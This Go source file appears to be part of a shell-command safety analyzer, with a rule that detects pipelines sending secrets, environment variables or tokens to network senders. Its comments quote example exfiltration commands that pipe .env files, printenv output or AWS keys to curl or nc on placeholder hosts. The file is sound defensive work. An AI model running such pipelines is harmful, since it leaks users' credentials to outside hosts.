package patterns

import "strings"

// A secret piped to a sender leaves whatever filters it passes through on
// the way: `cat .env | gzip | base64 | curl -d @- URL` sends .env, and
// `printenv | sort | gzip | nc HOST 80` the environment. [secret-stream]
// judges a sender's program word by every earlier stage of its pipeline,
// however many stand between: a stage that reads a secrets file (an
// operand or a < of [secret]), that prints the environment (env,
// printenv, set, export -p, declare -p/-x, /proc/*/environ), that
// exports secret keys (gpg --export-secret-keys) or that prints what a
// tool keeps secret (class_secret_printers.go: `kubectl get secret -o
// yaml`, `vault kv get`, `pg_dump`) feeds it a secret; a stage that
// prints a token (`gcloud auth print-access-token`) feeds it a token,
// judged by where the sender sends it.

// judgeSecretStream is [secret-stream]: a sender fed a secret through a
// pipe, through any number of filters.
func judgeSecretStream(_ string, w Word, ctx *Context) Judgement {
	if !judgeSender("", w, ctx).Certainly && !uploadsInput(ctx.programPart(w)) {
		return Judgement{}
	}
	cmd := ctx.evalCommand()
	if cmd == nil || len(cmd.Parts) > maxKillSearch {
		return Judgement{}
	}
	k := ctx.programPart(w)
	if k == nil || k.Pipe.ID < 0 || k.Pipe.Stage == 0 {
		return Judgement{}
	}
	token := false
	for _, q := range pipelineParts(cmd, k.Pipe.ID, k.Pipe.Stage) {
		switch secretOutput(q, ctx) {
		case varCertain | varToken:
			return Judgement{Might: true, Certainly: true}
		case varToken:
			token = true
		}
	}
	if token && !ctx.sentToKnownHosts(&w) {
		// a token piped where it may not be meant to go; certainly so when
		// every word the sender is given is known and none of its hosts is
		// on the egress list (`echo $AWS_SECRET_ACCESS_KEY | nc x.io 80`,
		// rt19d #13): that is stronger evidence than a might of another
		// default, which names the ask.
		return Judgement{Might: true, Certainly: allArgsKnown(ctx.programPart(w))}
	}
	return Judgement{}
}

// feedsSecret reports whether part q writes a secret to its output: it
// reads a secrets file, prints the environment, exports secret keys, or
// prints what a tool keeps secret (class_secret_printers.go).
func feedsSecret(q *Part, ctx *Context) bool {
	if printsSecretItself(q) {
		return true
	}
	args := q.Args()
	if q.Program == "echo" || q.Program == "printf" {
		// a secret's value printed again: S=$(vault kv get k); echo "$S" | curl -d @- URL
		for i := range args {
			if judgeSecretValue("", args[i], ctx).Certainly {
				return true
			}
		}
	}
	for i := range args {
		if readsSecretWord(&args[i], ctx) {
			return true
		}
	}
	for i := range q.Redirs {
		if r := &q.Redirs[i]; r.Reads && readsSecretWord(&r.Target, ctx) {
			return true
		}
	}
	for _, f := range fileURLReads(q) { // class_secret_fileurl.go
		if readsSecretWord(&f, ctx) {
			return true
		}
	}
	for i := range q.readsToo { // effects_link_reads.go, effects_xargs_reads.go
		if readsSecretWord(&q.readsToo[i], ctx) {
			return true
		}
	}
	return false
}

// readsSecretWord reports whether a word a stage reads certainly names a
// secrets file or a process's environment (/proc/self/environ).
func readsSecretWord(w *Word, ctx *Context) bool {
	if v := strings.Trim(w.Raw, `"'`); strings.HasPrefix(v, "/proc/") && strings.HasSuffix(v, "/environ") {
		return true
	}
	return judgeSecret("", *w, ctx).Certainly
}

// allArgsKnown reports whether every argument of part p is a literal.
func allArgsKnown(p *Part) bool {
	if p == nil {
		return false
	}
	for _, w := range p.Args() {
		if _, ok := w.Literal(); !ok {
			return false
		}
	}
	return true
}
